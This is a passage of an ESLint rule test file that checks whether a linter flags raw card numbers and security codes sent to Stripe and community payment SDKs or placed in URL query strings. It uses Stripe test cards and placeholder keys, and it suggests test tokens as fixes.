          data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 6,
          column: 136,
          endLine: 6,
          endColumn: 139,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'token', id: 'tok_mastercard' },
              output: `
import Stripe from 'stripe';
const stripe = new Stripe("sk_test_123");
describe("wallet", () => {
  it("adds a card", async () => {
    const pm = await stripe.paymentMethods.create({ type: "card", card: { token: "tok_mastercard" } });
    expect(pm.card?.brand).toBe("mastercard");
  });
});
`,
            },
          ],
        },
      ],
    },
    {
      // __tests__ (CJS): charges.create with a numeric test number in source → source: tok_visa
      code: `
const stripe = require('stripe')('sk_test_123');
test('charges', () => stripe.charges.create({ amount: 100, currency: 'usd', source: { object: 'card', number: 4242424242424242, exp_month: 1, exp_year: 2034 } }));
`,
      filename: 'src/__tests__/charges.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.charges.create', what: 'card number (PAN)', field: 'source.number' },
          line: 3,
          column: 103,
          endLine: 3,
          endColumn: 109,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'token', id: 'tok_visa' },
              output: `
const stripe = require('stripe')('sk_test_123');
test('charges', () => stripe.charges.create({ amount: 100, currency: 'usd', source: 'tok_visa' }));
`,
            },
          ],
        },
      ],
    },
    {
      // __tests__: old customers.create({ card }) with Amex → source: tok_amex
      code: `
const stripe = require('stripe')('sk_test_123');
test('customer', () => stripe.customers.create({ email: 'a@b.c', card: { number: '378282246310005', exp_month: 1, exp_year: 2034 } }));
`,
      filename: 'src/__tests__/customers.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.create', what: 'card number (PAN)', field: 'card.number' },
          line: 3,
          column: 74,
          endLine: 3,
          endColumn: 80,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'token', id: 'tok_amex' },
              output: `
const stripe = require('stripe')('sk_test_123');
test('customer', () => stripe.customers.create({ email: 'a@b.c', source: 'tok_amex' }));
`,
            },
          ],
        },
      ],
    },
    {
      // test file: sources.create with the decline card → token: tok_visa_chargeDeclined
      code: `
const stripe = require('stripe')('sk_test_123');
test('declines', () => stripe.sources.create({ type: 'card', card: { number: '4000000000000002', exp_month: 1, exp_year: 2034 } }));
`,
      filename: 'sources.test.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.sources.create', what: 'card number (PAN)', field: 'card.number' },
          line: 3,
          column: 70,
          endLine: 3,
          endColumn: 76,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'token', id: 'tok_visa_chargeDeclined' },
              output: `
const stripe = require('stripe')('sk_test_123');
test('declines', () => stripe.sources.create({ type: 'card', token: 'tok_visa_chargeDeclined' }));
`,
            },
          ],
        },
      ],
    },
    {
      // test file: createSource with a const card object → the source property is replaced
      code: `
const stripe = require('stripe')('sk_test_123');
const card = { number: '6011111111111117', exp_month: 1, exp_year: 2034 };
test('source', () => stripe.customers.createSource('cus_1', { source: card }));
`,
      filename: 'sources.spec.mjs',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.customers.createSource', what: 'card number (PAN)', field: 'source.number' },
          line: 3,
          column: 16,
          endLine: 3,
          endColumn: 22,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'token', id: 'tok_discover' },
              output: `
const stripe = require('stripe')('sk_test_123');
const card = { number: '6011111111111117', exp_month: 1, exp_year: 2034 };
test('source', () => stripe.customers.createSource('cus_1', { source: 'tok_discover' }));
`,
            },
          ],
        },
      ],
    },
    {
      // Stripe.js loaded lazily (destructured from `await import()`): its instance is one, whatever its name
      code: `
export async function tokenize(form: { cardNumber: string; cvc: string }) {
  const { loadStripe } = await import('@stripe/stripe-js');
  const payments = await loadStripe(import.meta.env.VITE_STRIPE_PK);
  return payments!.createToken({ number: form.cardNumber, cvc: form.cvc } as any);
}
`,
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createToken', what: 'card number (PAN)', field: 'number' },
          line: 5,
          column: 34,
          endLine: 5,
          endColumn: 40,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'createToken', what: 'card security code (CVC)', field: 'cvc' },
          line: 5,
          column: 59,
          endLine: 5,
          endColumn: 62,
          suggestions: [],
        },
      ],
    },
    {
      // test file: Stripe.js confirmCardPayment with a test card → pm_card_visa
      code: `
import { loadStripe } from '@stripe/stripe-js';
it('confirms', async () => {
  const stripe = await loadStripe('pk_test_123');
  await stripe!.confirmCardPayment('pi_123_secret_456', { payment_method: { card: { number: '4242424242424242', cvc: '123' } as any } });
});
`,
      filename: 'checkout.test.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'confirmCardPayment', what: 'card number (PAN)', field: 'payment_method.card.number' },
          line: 5,
          column: 85,
          endLine: 5,
          endColumn: 91,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'PaymentMethod', id: 'pm_card_visa' },
              output: `
import { loadStripe } from '@stripe/stripe-js';
it('confirms', async () => {
  const stripe = await loadStripe('pk_test_123');
  await stripe!.confirmCardPayment('pi_123_secret_456', { payment_method: 'pm_card_visa' });
});
`,
            },
          ],
        },
        {
          messageId: 'rawCardToStripeJs',
          data: { method: 'confirmCardPayment', what: 'card security code (CVC)', field: 'payment_method.card.cvc' },
          line: 5,
          column: 113,
          endLine: 5,
          endColumn: 116,
          suggestions: [
            {
              messageId: 'useTestCard',
              data: { kind: 'PaymentMethod', id: 'pm_card_visa' },
              output: `
import { loadStripe } from '@stripe/stripe-js';
it('confirms', async () => {
  const stripe = await loadStripe('pk_test_123');
  await stripe!.confirmCardPayment('pi_123_secret_456', { payment_method: 'pm_card_visa' });
});
`,
            },
          ],
        },
      ],
    },
    {
      // test file: no suggestion for numbers that are not documented test cards, for tokens.create, or for non-static numbers
      code: `
import Stripe from 'stripe';
const stripe = new Stripe('sk_test_123');
it('tokenizes', async () => {
  await stripe.paymentMethods.create({ type: 'card', card: { number: '4111111111111111', cvc: '123' } });
  await stripe.tokens.create({ card: { number: '4242424242424242', exp_month: 1, exp_year: 2034 } });
  await stripe.paymentMethods.create({ type: 'card', card: { number: process.env.CARD!, cvc: '123' } });
});
`,
      filename: 'tokens.test.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' },
          line: 5,
          column: 62,
          endLine: 5,
          endColumn: 68,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 5,
          column: 90,
          endLine: 5,
          endColumn: 93,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card number (PAN)', field: 'card.number' },
          line: 6,
          column: 40,
          endLine: 6,
          endColumn: 46,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' },
          line: 7,
          column: 62,
          endLine: 7,
          endColumn: 68,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 7,
          column: 89,
          endLine: 7,
          endColumn: 92,
          suggestions: [],
        },
      ],
    },
    {
      // allowTestCards still reports real-looking numbers and CVC-only objects
      code: `
import Stripe from 'stripe';
const stripe = new Stripe('sk_test_123');
await stripe.paymentMethods.create({ type: 'card', card: { number: '4111111111111112', cvc: '123' } });
await stripe.tokens.create({ cvc_update: { cvc: '123' } });
await stripe.paymentMethods.create({ type: 'card', card: { number: userInput, cvc: '123' } });
`,
      options: [{ allowTestCards: true }],
      output: null,
      errors: [
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' },
          line: 4,
          column: 60,
          endLine: 4,
          endColumn: 66,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 4,
          column: 88,
          endLine: 4,
          endColumn: 91,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.tokens.create', what: 'card security code (CVC)', field: 'cvc_update.cvc' },
          line: 5,
          column: 44,
          endLine: 5,
          endColumn: 47,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card number (PAN)', field: 'card.number' },
          line: 6,
          column: 60,
          endLine: 6,
          endColumn: 66,
          suggestions: [],
        },
        {
          messageId: 'rawCardToStripeApi',
          data: { call: 'stripe.paymentMethods.create', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 6,
          column: 79,
          endLine: 6,
          endColumn: 82,
          suggestions: [],
        },
      ],
    },
  ],
});

// Keep the exported ids in step with the messages (the scanner maps them to SAQ levels).
if (MESSAGE_IDS.join() !== Object.keys(rule.meta.messages).join()) throw new Error('MESSAGE_IDS out of date');

// Community SDKs that take a raw card (stripe-facts §1.6): the Cordova Stripe plugin (ionic-native, its Angular builds
// and the cordova global), the card-token clients `stripe-client` / `react-native-stripe-client`, and tipsi-stripe.
ruleTester.run('no-raw-card-data: community SDKs', rule, {
  valid: [
    {
      // limitation: a card the file cannot read, passed to a raw-card-only method whose name is assembled by evaluation,
      // in a file that names no card field: the rule runs where the file spells such a method (or `tokens`)
      code: `
import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY);
const resource = 'tok' + 'ens';

export const cardToken = (card) => stripe[resource].create({ card });
`,
      filename: 'src/server/billing.js',
    },
    {
      // the plugin's other calls, a bank account token, and a token client's bank account / PII tokens
      code: `
import { Injectable } from '@angular/core';
import { Stripe } from '@ionic-native/stripe/ngx';
import createStripe from 'stripe-client';

const client = createStripe(environment.stripePublishableKey);

@Injectable({ providedIn: 'root' })
export class PaymentService {
  constructor(private stripe: Stripe) {
    this.stripe.setPublishableKey(environment.stripePublishableKey);
  }
  bank(account: { routing: string; account: string }) {
    return this.stripe.createBankAccountToken({ routing_number: account.routing, account_number: account.account, country: 'US', currency: 'usd' });
  }
  pii(id: string) {
    return client.createToken({ pii: { personal_id_number: id } });
  }
}
`,
      filename: 'src/app/payment.service.ts',
    },
    {
      // tipsi-stripe: its own card form, a card already tokenised, 3D Secure on a card source id, a bank account token
      code: `import stripe from 'tipsi-stripe';

stripe.setOptions({ publishableKey: Config.STRIPE_PUBLISHABLE_KEY, merchantId: 'merchant.com.example.shop' });

export async function payWithForm(clientSecret) {
  const paymentMethod = await stripe.paymentRequestWithCardForm({ requiredBillingAddressFields: 'zip' });
  return stripe.confirmPaymentIntent({ clientSecret, paymentMethodId: paymentMethod.id });
}

export async function secure(token, amount) {
  const method = await stripe.createPaymentMethod({ card: { token: token.tokenId }, billingDetails: { name: token.card.name } });
  return stripe.createSourceWithParams({ type: 'threeDSecure', amount, currency: 'EUR', card: method.id, returnURL: 'shop://stripe-redirect' });
}

export const bankToken = (form) =>
  stripe.createTokenWithBankAccount({ accountNumber: form.accountNumber, routingNumber: form.routingNumber, countryCode: 'US', currency: 'usd' });
`,
      filename: 'src/payments/stripe.js',
      languageOptions: { parser: espree, parserOptions: { ecmaFeatures: { jsx: true } } },
    },
    {
      // limitation: a tipsi-stripe method taken off the SDK before the call is not followed
      code: `import stripe from 'tipsi-stripe';

const createToken = stripe.createTokenWithCard;
export const tokenise = (form) => createToken({ number: form.number, expMonth: form.month, expYear: form.year, cvc: form.cvc });
`,
      filename: 'src/payments/tokenise.js',
      languageOptions: { parser: espree },
    },
    {
      // limitation: a receiver that is not proven to be the plugin or a token client (an app's own service, an untyped
      // parameter named stripe) is not judged, whatever its method is called
      code: `
export class CheckoutPage {
  constructor(private paymentService: PaymentService) {}
  pay(form, stripe) {
    this.paymentService.createCardToken({ number: form.number, cvc: form.cvc });
    return stripe.createCardToken({ number: form.number, cvc: form.cvc });
  }
}
`,
      filename: 'src/pages/checkout/checkout.page.ts',
    },
    {
      // react-native-stripe-api: its customer, charge and card-on-customer calls take ids, not cards; a class of
      // another package named Stripe is not its client; Stripe's test card passed by position where test cards are allowed
      code: `import Stripe from 'react-native-stripe-api';
import OtherStripe from './stripe-mock';

const client = new Stripe(Config.STRIPE_PUBLISHABLE_KEY);
const mock = new OtherStripe(Config.STRIPE_PUBLISHABLE_KEY);

export async function attach(token, email, customerId) {
  const customer = await client.createCustomer(token.id, email);
  await client.addCardToCustomer(token.id, customerId);
  return client.createCharge(1000, customer.id, 'Order', 'usd');
}

export const fake = (form) => mock.createToken({ number: form.number, exp_month: form.month, exp_year: form.year, cvc: form.cvc });
export const demo = () => client.createToken('4242424242424242', '09', '30', '123');
`,
      filename: 'src/payments/stripe.js',
      options: [{ allowTestCards: true }],
      languageOptions: { parser: espree },
    },
    {
      // a local variable named cordova is not the Cordova global
      code: `
import { makeBridge } from './bridge';
const cordova = makeBridge();
export const pay = (card) => cordova.plugins.stripe.createCardToken({ number: card.number, cvc: card.cvc });
`,
      filename: 'src/pay.js',
    },
  ],
  invalid: [
    {
      // A service module wrapping the token client: the card arrives as a parameter, and createToken({ card }) takes
      // nothing but a raw card (real-world batch AO); a bank account token, a card the file reads without card fields
      // and a saved card's id (also with a customer: a token cloned from a saved card) are not reported
      code: `import createStripe from 'stripe-client';

const stripe = createStripe(process.env.EXPO_PUBLIC_STRIPE_KEY);

export const cardTokenRequest = (card) => stripe.createToken({ card });
export const formToken = (form) => stripe.createToken({ card: form.card });
export const bankToken = (bank_account) => stripe.createToken({ bank_account });
export const savedToken = (last4) => stripe.createToken({ card: { last4 } });
export const fromSavedCard = (cardId) => stripe.createToken({ card: cardId });
export const cloned = (customer, saved) => stripe.createToken({ customer, card: saved.card });
`,
      filename: 'src/services/checkout/checkout.service.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        { messageId: 'rawCardToSdk', data: { call: 'stripe.createToken', sdk: 'a card-token client', field: 'card', what: 'card details (number, expiry date and CVC)' }, line: 5, column: 64, endLine: 5, endColumn: 68 },
        { messageId: 'rawCardToSdk', data: { call: 'stripe.createToken', sdk: 'a card-token client', field: 'form.card', what: 'card details (number, expiry date and CVC)' }, line: 6, column: 63, endLine: 6, endColumn: 72 },
      ],
    },
    {
      // react-native-stripe-api 0.1 (and its fork indici-stripe-api): \`new Stripe(pk)\`, whose createToken(info) posts
      // info's keys as card[…] to /v1/tokens; a redux-saga worker handing it the action's payload (real-world batch 327)
      code: `import Stripe from 'react-native-stripe-api';
import IndiciStripe from 'indici-stripe-api';

const client = new Stripe(process.env.STRIPE_PK);

export const addCard = (values) => async () => {
  const stripeToken = await client.createToken({
    number: values?.cardNumber,
    exp_month: values?.expiryMonth,
    exp_year: values?.expiryYear,
    cvc: values?.cvc,
  });
  return stripeToken?.id;
};

export function* addCardWorker(action) {
  const { id } = yield new IndiciStripe(process.env.STRIPE_PK).createToken(action.payload);
  return id;
}
`,
      filename: 'src/store/cards/actions.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        { messageId: 'rawCardToSdk', data: { call: 'client.createToken', sdk: 'react-native-stripe-api', field: 'number', what: 'card number (PAN)' }, line: 8, column: 5, endLine: 8, endColumn: 11 },
        { messageId: 'rawCardToSdk', data: { call: 'client.createToken', sdk: 'react-native-stripe-api', field: 'cvc', what: 'card security code (CVC)' }, line: 11, column: 5, endLine: 11, endColumn: 8 },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'createToken', sdk: 'react-native-stripe-api', field: 'action.payload', what: 'card details (number, expiry date and CVC)' },
          line: 17,
          column: 76,
          endLine: 17,
          endColumn: 90,
        },
      ],
    },
    {
      // react-native-stripe-api 0.0.x: createToken(cardNumber, expMonth, expYear, cvc), the client kept on \`this\`; a
      // test card by position is reported where test cards are not allowed
      code: `import { Component } from 'react';
import Stripe from 'react-native-stripe-api';

export default class AddCard extends Component {
  constructor(props) {
    super(props);
    this.stripe = new Stripe(props.stripeKey);
    this.state = { cardNumber: '', expMonth: '', expYear: '', cvc: '' };
  }

  save() {
    const { cardNumber, expMonth, expYear, cvc } = this.state;
    return this.stripe.createToken(cardNumber, expMonth, expYear, cvc).then((resp) => this.stripe.addCardToCustomer(resp.id, this.props.customerId));
  }

  demo() {
    return this.stripe.createToken('4242424242424242', '09', '30', '123');
  }
}
`,
      filename: 'src/screens/AddCard.js',
      languageOptions: { parser: espree, parserOptions: { ecmaFeatures: { jsx: true } } },
      output: null,
      errors: [
        { messageId: 'rawCardToSdk', data: { call: 'this.stripe.createToken', sdk: 'react-native-stripe-api', field: 'cardNumber', what: 'card number (PAN)' }, line: 13, column: 36, endLine: 13, endColumn: 46 },
        { messageId: 'rawCardToSdk', data: { call: 'this.stripe.createToken', sdk: 'react-native-stripe-api', field: 'cvc', what: 'card security code (CVC)' }, line: 13, column: 67, endLine: 13, endColumn: 70 },
        { messageId: 'rawCardToSdk', data: { call: 'this.stripe.createToken', sdk: 'react-native-stripe-api', field: "'4242424242424242'", what: 'card number (PAN)' }, line: 17, column: 36, endLine: 17, endColumn: 54 },
        { messageId: 'rawCardToSdk', data: { call: 'this.stripe.createToken', sdk: 'react-native-stripe-api', field: "'123'", what: 'card security code (CVC)' }, line: 17, column: 68, endLine: 17, endColumn: 73 },
      ],
    },
    {
      // stripe-client's factory called with \`new\` (it returns the client object, so \`new\` gives the same; real-world batch 327)
      code: `import Stripe from 'stripe-client';

const stripe = new Stripe(process.env.STRIPE_KEY);

export const createStripeCardToken = ({ number, expMonth, expYear, cvc }) =>
  stripe.createToken({ card: { number, exp_month: expMonth, exp_year: expYear, cvc } });
`,
      filename: 'src/services/stripe.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        { messageId: 'rawCardToSdk', data: { call: 'stripe.createToken', sdk: 'a card-token client', field: 'card.number', what: 'card number (PAN)' }, line: 6, column: 32, endLine: 6, endColumn: 38 },
        { messageId: 'rawCardToSdk', data: { call: 'stripe.createToken', sdk: 'a card-token client', field: 'card.cvc', what: 'card security code (CVC)' }, line: 6, column: 80, endLine: 6, endColumn: 83 },
      ],
    },
    {
      // tipsi-stripe's example screen copied into an app: a raw-card-only method given either of two cards the file
      // cannot read (real-world batch 327), or a card with a fallback; a saved card's id as the other side is not a card
      code: `import React, { PureComponent } from 'react';
import { View } from 'react-native';
import stripe from 'tipsi-stripe';

export default class CustomCardScreen extends PureComponent {
  handleCustomPayPress = async (shouldPass = true) => {
    const params = shouldPass ? this.props.params : this.props.errorParams;
    const token = await stripe.createTokenWithCard(params);
    this.setState({ token });
  };

  retry = (card, lastCard) => stripe.createTokenWithCard(card ?? lastCard);

  render() {
    return <View />;
  }
}
`,
      filename: 'src/scenes/CustomCardScreen.js',
      languageOptions: { parser: espree, parserOptions: { ecmaFeatures: { jsx: true } } },
      output: null,
      errors: [
        { messageId: 'rawCardToSdk', data: { call: 'stripe.createTokenWithCard', sdk: 'tipsi-stripe', field: 'params', what: 'card details (number, expiry date and CVC)' }, line: 8, column: 52, endLine: 8, endColumn: 58 },
        { messageId: 'rawCardToSdk', data: { call: 'stripe.createTokenWithCard', sdk: 'tipsi-stripe', field: 'its argument', what: 'card details (number, expiry date and CVC)' }, line: 12, column: 58, endLine: 12, endColumn: 74 },
      ],
    },
    {
      // tipsi-stripe's createTokenWithCard takes only a raw card, even one the file cannot read
      code: `import stripe from 'tipsi-stripe';

export async function tokenise(params) {
  const token = await stripe.createTokenWithCard(params);
  return token.tokenId;
}
`,
      filename: 'src/payments/tokenise.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        { messageId: 'rawCardToSdk', data: { call: 'stripe.createTokenWithCard', sdk: 'tipsi-stripe', field: 'params', what: 'card details (number, expiry date and CVC)' }, line: 4, column: 50, endLine: 4, endColumn: 56 },
      ],
    },
    {
      // Ionic 4 Angular page: the plugin injected by the constructor (real-world batch J)
      code: `import { Component } from '@angular/core';
import { Stripe } from '@ionic-native/stripe/ngx';

@Component({ selector: 'app-stripe', templateUrl: './stripe.page.html' })
export class StripePage {
  card = { number: '', expMonth: 0, expYear: 0, cvc: '' };
  constructor(private stripe: Stripe) {}

  async pay() {
    const token = await this.stripe.createCardToken({
      number: this.card.number,
      expMonth: this.card.expMonth,
      expYear: this.card.expYear,
      cvc: this.card.cvc,
    });
    return token;
  }
}
`,
      filename: 'src/app/stripe/stripe.page.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToSdk',
          data: { call: 'this.stripe.createCardToken', sdk: 'the Cordova Stripe plugin', what: 'card number (PAN)', field: 'number' },
          line: 11,
          column: 7,
          endLine: 11,
          endColumn: 13,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'this.stripe.createCardToken', sdk: 'the Cordova Stripe plugin', what: 'card security code (CVC)', field: 'cvc' },
          line: 14,
          column: 7,
          endLine: 14,
          endColumn: 10,
          suggestions: [],
        },
      ],
    },
    {
      // ionic-native 2: the plugin's static methods; the card object built first
      code: `import { Stripe } from 'ionic-native';

export function tokenize(form) {
  Stripe.setPublishableKey('pk_test_TYooMQauvdEDq54NiTphI7jx');
  const card = { number: form.cardNumber, expMonth: form.month, expYear: form.year, cvc: form.cvc };
  return Stripe.createCardToken(card);
}
`,
      filename: 'src/pages/home/home.ts',
      output: null,
      errors: [
        {
          messageId: 'rawCardToSdk',
          data: { call: 'Stripe.createCardToken', sdk: 'the Cordova Stripe plugin', what: 'card number (PAN)', field: 'number' },
          line: 5,
          column: 18,
          endLine: 5,
          endColumn: 24,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'Stripe.createCardToken', sdk: 'the Cordova Stripe plugin', what: 'card security code (CVC)', field: 'cvc' },
          line: 5,
          column: 85,
          endLine: 5,
          endColumn: 88,
          suggestions: [],
        },
      ],
    },
    {
      // the plugin's own global, with callbacks; and the renamed @awesome-cordova-plugins build, required (a callee
      // written over more than a word is named by its method)
      code: `const { Stripe } = require('@awesome-cordova-plugins/stripe');

function onDeviceReady(form, done, fail) {
  window.cordova.plugins.stripe.createCardToken({ number: form.number, cvc: form.cvc }, done, fail);
  new Stripe().createCardToken({ number: form.number, cvc: form.cvc });
}
`,
      filename: 'www/js/index.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToSdk',
          data: { call: 'window.cordova.plugins.stripe.createCardToken', sdk: 'the Cordova Stripe plugin', what: 'card number (PAN)', field: 'number' },
          line: 4,
          column: 51,
          endLine: 4,
          endColumn: 57,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'window.cordova.plugins.stripe.createCardToken', sdk: 'the Cordova Stripe plugin', what: 'card security code (CVC)', field: 'cvc' },
          line: 4,
          column: 72,
          endLine: 4,
          endColumn: 75,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'createCardToken', sdk: 'the Cordova Stripe plugin', what: 'card number (PAN)', field: 'number' },
          line: 5,
          column: 34,
          endLine: 5,
          endColumn: 40,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'createCardToken', sdk: 'the Cordova Stripe plugin', what: 'card security code (CVC)', field: 'cvc' },
          line: 5,
          column: 55,
          endLine: 5,
          endColumn: 58,
          suggestions: [],
        },
      ],
    },
    {
      // Expo app with stripe-client (real-world batch J): the card under \`card\`, written inline or as a const
      code: `import createStripe from 'stripe-client';

const stripe = createStripe(process.env.EXPO_PUBLIC_STRIPE_KEY);

export const cardTokenRequest = (values) => stripe.createToken({ card: { number: values.number, cvc: values.cvc } });

export async function tokenize(values) {
  const card = { number: values.number, exp_month: values.expMonth, exp_year: values.expYear, cvc: values.cvc };
  return stripe.createToken({ card });
}
`,
      filename: 'src/services/checkout/checkout.service.js',
      languageOptions: { parser: espree, parserOptions: { sourceType: 'module' } },
      output: null,
      errors: [
        {
          messageId: 'rawCardToSdk',
          data: { call: 'stripe.createToken', sdk: 'a card-token client', what: 'card number (PAN)', field: 'card.number' },
          line: 5,
          column: 74,
          endLine: 5,
          endColumn: 80,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'stripe.createToken', sdk: 'a card-token client', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 5,
          column: 97,
          endLine: 5,
          endColumn: 100,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'stripe.createToken', sdk: 'a card-token client', what: 'card number (PAN)', field: 'card.number' },
          line: 8,
          column: 18,
          endLine: 8,
          endColumn: 24,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'stripe.createToken', sdk: 'a card-token client', what: 'card security code (CVC)', field: 'card.cvc' },
          line: 8,
          column: 95,
          endLine: 8,
          endColumn: 98,
          suggestions: [],
        },
      ],
    },
    {
      // tipsi-stripe in a React Native screen: the card typed into the app's own TextInputs goes to
      // createTokenWithCard (top level), createPaymentMethod (\`card\`) and confirmPaymentIntent (\`paymentMethod.card\`)
      code: `import React, { useState } from 'react';
import { Button, TextInput, View } from 'react-native';
import stripe from 'tipsi-stripe';

export default function CardScreen({ clientSecret, onPaid }) {
  const [number, setNumber] = useState('');
  const [cvc, setCvc] = useState('');
  const [expiry, setExpiry] = useState({ month: 0, year: 0 });

  const tokenise = () => stripe.createTokenWithCard({ number, cvc, expMonth: expiry.month, expYear: expiry.year });
  const pay = async () => {
    const card = { number, cvc, expMonth: expiry.month, expYear: expiry.year };
    const method = await stripe.createPaymentMethod({ card });
    await stripe.confirmPaymentIntent({ clientSecret, paymentMethod: { card: { number, cvc, expMonth: 1, expYear: 2030 } } });
    onPaid(method.id);
  };

  return (
    <View>
      <TextInput value={number} onChangeText={setNumber} keyboardType="number-pad" />
      <TextInput value={cvc} onChangeText={setCvc} secureTextEntry />
      <Button title="Save card" onPress={tokenise} />
      <Button title="Pay" onPress={pay} />
    </View>
  );
}
`,
      filename: 'src/screens/CardScreen.jsx',
      languageOptions: { parser: espree, parserOptions: { ecmaFeatures: { jsx: true } } },
      output: null,
      errors: [
        ['createTokenWithCard', 'card number (PAN)', 'number', 10, 55, 61],
        ['createTokenWithCard', 'card security code (CVC)', 'cvc', 10, 63, 66],
        ['createPaymentMethod', 'card number (PAN)', 'card.number', 12, 20, 26],
        ['createPaymentMethod', 'card security code (CVC)', 'card.cvc', 12, 28, 31],
        ['confirmPaymentIntent', 'card number (PAN)', 'paymentMethod.card.number', 14, 80, 86],
        ['confirmPaymentIntent', 'card security code (CVC)', 'paymentMethod.card.cvc', 14, 88, 91],
      ].map(([method, what, field, line, column, endColumn]) => ({
        messageId: 'rawCardToSdk' as const,
        data: { call: `stripe.${method}`, sdk: 'tipsi-stripe', what, field },
        line: line as number,
        column: column as number,
        endLine: line as number,
        endColumn: endColumn as number,
        suggestions: [],
      })),
    },
    {
      // react-native-stripe-client, required and called at once: createPaymentMethod('card', card)
      code: `const client = require('react-native-stripe-client')(publishableKey);

module.exports = (form) => client.createPaymentMethod('card', { number: form.number, exp_month: 12, exp_year: 2030, cvc: form.cvc });
`,
      filename: 'src/payments.js',
      languageOptions: { parser: espree },
      output: null,
      errors: [
        {
          messageId: 'rawCardToSdk',
          data: { call: 'client.createPaymentMethod', sdk: 'a card-token client', what: 'card number (PAN)', field: 'number' },
          line: 3,
          column: 65,
          endLine: 3,
          endColumn: 71,
          suggestions: [],
        },
        {
          messageId: 'rawCardToSdk',
          data: { call: 'client.createPaymentMethod', sdk: 'a card-token client', what: 'card security code (CVC)', field: 'cvc' },
          line: 3,
          column: 117,
          endLine: 3,
          endColumn: 120,
          suggestions: [],
        },
      ],
    },
  ],
});

// Card fields in a URL's query string, or in a client's query-parameter option (axios / Angular `params`, got / ky
// `searchParams`, request's `qs`, superagent's `.query()`): sent like a body, and written to access logs besides
// (real-world batch 82: a server forwarding the card to another processor in the URL).
ruleTester.run('no-raw-card-data: query strings', rule, {
  valid: [
    // The card's safe parts in the query, an id in the path, a bare `number` (a page number, an order number).
    `
import axios from 'axios';

export async function listCards(customerId: string, last4: string, brand: string, page: number) {
  const { data } = await axios.get(\`/api/customers/\${customerId}/cards?last4=\${last4}&brand=\${brand}\`);
  const more = await fetch('/api/orders?number=' + page + '&sort=desc');
  const check = await fetch(\`/api/cards/\${customerId}/cvc-check\`);
  return [data, await more.json(), await check.json()];
}
`,
    // A gift card's number and PIN in the query of the gift-card resource: no payment card.
    {
      code: `export const balance = (cardNumber: string, pin: string) =>
  fetch(\`/api/gift-cards/balance?cardNumber=\${cardNumber}&pin=\${pin}\`).then((r) => r.json());
`,
      filename: 'src/giftCards.ts',
    },
    // A test file may query its own endpoint with a card.
    {
      code: `import request from 'supertest';
import { app } from '../app';

it('rejects an expired card', async () => {
  await request(app).get('/api/validate?cardNumber=4000000000000069&cvc=123').expect(402);
  await fetch('http://localhost:3000/api/validate?cardNumber=4000000000000069&cvc=123');
});
`,
      filename: 'src/__tests__/validate.test.ts',
    },
    // An Electron or Tauri \`invoke\` talks to the app's own process, and a \`functions.invoke\` of another client is no
    // Supabase request.
    {
      code: `import { ipcRenderer } from 'electron';
import { invoke } from '@tauri-apps/api/core';
import { getFunctions } from './firebase';

export async function saveCard(card: { cardNumber: string; cvv: string }) {
  await ipcRenderer.invoke('save-card', { cardNumber: card.cardNumber, cvv: card.cvv });
